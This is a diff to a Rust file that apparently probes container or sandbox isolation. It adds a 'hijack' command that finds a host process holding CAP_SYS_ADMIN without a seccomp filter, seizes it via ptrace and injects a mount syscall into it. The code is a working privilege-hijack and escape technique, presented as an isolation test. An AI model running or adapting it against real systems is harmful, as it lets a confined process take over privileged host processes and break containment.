@@ -43,6 +43,10 @@
 //!                                WRITE: its exe reopened for writing,
 //!                                TRACE: PTRACE_SEIZE of it, then the
 //!                                most capabilities (CapEff) seen on one
+//!   hijack DEV INO ROUNDS DIR    like hunt; a process running DEV:INO with
+//!                                CAP_SYS_ADMIN and no filter is seized and
+//!                                made to mount a tmpfs on DIR: "none",
+//!                                "missed" or "hijacked VERDICT"
 //!   fds [PID]                    "none", or the "PID/FD TARGET" descriptors
 //!                                of every process (or PID) that lead to a
 //!                                directory or file outside the container
@@ -348,6 +352,120 @@ fn foreign_fds(only: Option<&str>) -> String {
     }
 }
 
+/// Like `hunt`, but on finding a process that runs the host binary with
+/// CAP_SYS_ADMIN, seizes it, stops it and makes it execute one syscall:
+/// mount("tmpfs", DIR, "tmpfs", 0, 0), then puts it back as it was.
+/// Prints "none", "missed" (seen, never caught privileged), or
+/// "hijacked VERDICT" with the injected mount's verdict.
+#[cfg(target_arch = "x86_64")]
+fn hijack(dev: u64, ino: u64, rounds: usize, dir: &str) -> String {
+    let me = std::process::id().to_string();
+    let mut seen = false;
+    let _ = std::fs::create_dir_all(dir);
+    for _ in 0..rounds {
+        let Ok(d) = std::fs::read_dir("/proc") else { break };
+        for e in d.flatten() {
+            let n = e.file_name().to_string_lossy().into_owned();
+            if !n.bytes().all(|b| b.is_ascii_digit()) || n == me {
+                continue;
+            }
+            let Ok(m) = std::fs::metadata(format!("/proc/{n}/exe")) else { continue };
+            use std::os::unix::fs::MetadataExt;
+            if m.dev() != dev || m.ino() != ino {
+                continue;
+            }
+            seen = true;
+            let pid: i64 = n.parse().unwrap_or(0);
+            if let Some(v) = inject_mount(pid, &n, dir) {
+                return format!("hijacked {v}");
+            }
+        }
+    }
+    if seen {
+        "missed".into()
+    } else {
+        "none".into()
+    }
+}
+
+#[cfg(target_arch = "x86_64")]
+fn privileged(n: &str) -> bool {
+    let st = std::fs::read_to_string(format!("/proc/{n}/status")).unwrap_or_default();
+    let eff = st.lines().find_map(|l| l.strip_prefix("CapEff:")).map(|c| u64::from_str_radix(c.trim(), 16).unwrap_or(0)).unwrap_or(0);
+    let filtered = st.lines().any(|l| l.starts_with("Seccomp:") && !l.ends_with('0'));
+    eff & (1 << 21) != 0 && !filtered
+}
+
+/// The injection itself; None when the process got away unprivileged.
+#[cfg(target_arch = "x86_64")]
+fn inject_mount(pid: i64, n: &str, dir: &str) -> Option<String> {
+    const SEIZE: i64 = 0x4206;
+    const INTERRUPT: i64 = 0x4207;
+    const DETACH: i64 = 17;
+    const GETREGS: i64 = 12;
+    const SETREGS: i64 = 13;
+    const PEEKTEXT: i64 = 1;
+    const POKEDATA: i64 = 5;
+    const SINGLESTEP: i64 = 9;
+    if sys(libc::SYS_ptrace, [SEIZE, pid, 0, 0, 0, 0]) < 0 {
+        return None;
+    }
+    let detach = || sys(libc::SYS_ptrace, [DETACH, pid, 0, 0, 0, 0]);
+    sys(libc::SYS_ptrace, [INTERRUPT, pid, 0, 0, 0, 0]);
+    let mut st = 0i32;
+    // SAFETY: waits for our tracee.
+    if unsafe { libc::waitpid(pid as i32, &mut st, libc::__WALL) } != pid as i32 || !privileged(n) {
+        detach();
+        return None;
+    }
+    // SAFETY: user_regs_struct is plain data.
+    let mut regs: libc::user_regs_struct = unsafe { std::mem::zeroed() };
+    sys(libc::SYS_ptrace, [GETREGS, pid, 0, &mut regs as *mut _ as i64, 0, 0]);
+    let saved = regs;
+    // a `syscall` instruction (0f 05) just before rip: it was in a syscall
+    // SAFETY: PEEKTEXT returns the word; errno tells errors apart.
+    let word_at = unsafe { libc::ptrace(PEEKTEXT as _, pid as i32, (regs.rip - 2) as *mut libc::c_void, 0) };
+    if word_at & 0xffff != 0x050f {
+        detach();
+        return Some("no-syscall-site".into());
+    }
+    // the strings, well below the stack pointer (past the red zone)
+    let base = (regs.rsp - 4096) & !7;
+    let put = |at: u64, s: &[u8]| {
+        let mut b = s.to_vec();
+        b.push(0);
+        b.resize(b.len().div_ceil(8) * 8, 0);
+        for (i, ch) in b.chunks(8).enumerate() {
+            let w = u64::from_le_bytes(ch.try_into().unwrap());
+            sys(libc::SYS_ptrace, [POKEDATA, pid, (at + 8 * i as u64) as i64, w as i64, 0, 0]);
+        }
+    };
+    put(base, b"tmpfs");
+    put(base + 64, dir.as_bytes());
+    regs.rip -= 2;
+    regs.orig_rax = u64::MAX;
+    regs.rax = libc::SYS_mount as u64;
+    regs.rdi = base;
+    regs.rsi = base + 64;
+    regs.rdx = base;
+    regs.r10 = 0;
+    regs.r8 = 0;
+    sys(libc::SYS_ptrace, [SETREGS, pid, 0, &regs as *const _ as i64, 0, 0]);
+    sys(libc::SYS_ptrace, [SINGLESTEP, pid, 0, 0, 0, 0]);
+    // SAFETY: waits for our tracee.
+    unsafe { libc::waitpid(pid as i32, &mut st, libc::__WALL) };
+    sys(libc::SYS_ptrace, [GETREGS, pid, 0, &mut regs as *mut _ as i64, 0, 0]);
+    let r = regs.rax as i64;
+    sys(libc::SYS_ptrace, [SETREGS, pid, 0, &saved as *const _ as i64, 0, 0]);
+    detach();
+    Some(if r >= 0 { "ok".into() } else { name(-r as i32) })
+}
+
+#[cfg(not(target_arch = "x86_64"))]
+fn hijack(_: u64, _: u64, _: usize, _: &str) -> String {
+    "ENOSYS".into()
+}
+
 fn run(a: &[String]) -> String {
     let cmd = arg(a, 1);
     match cmd {
@@ -555,6 +673,7 @@ fn run(a: &[String]) -> String {
         "i386" => i386(),
         "ls" => ls(arg(a, 2)),
         "hunt" => hunt(arg(a, 2).parse().unwrap(), arg(a, 3).parse().unwrap(), arg(a, 4).parse().unwrap()),
+        "hijack" => hijack(arg(a, 2).parse().unwrap(), arg(a, 3).parse().unwrap(), arg(a, 4).parse().unwrap(), arg(a, 5)),
         "fds" => foreign_fds(a.get(2).map(|s| s.as_str())),
         "procs" => procs(arg(a, 2), arg(a, 3).parse().unwrap()),
         // unshare(CLONE_NEWUSER) through the x32 ABI (syscall number with
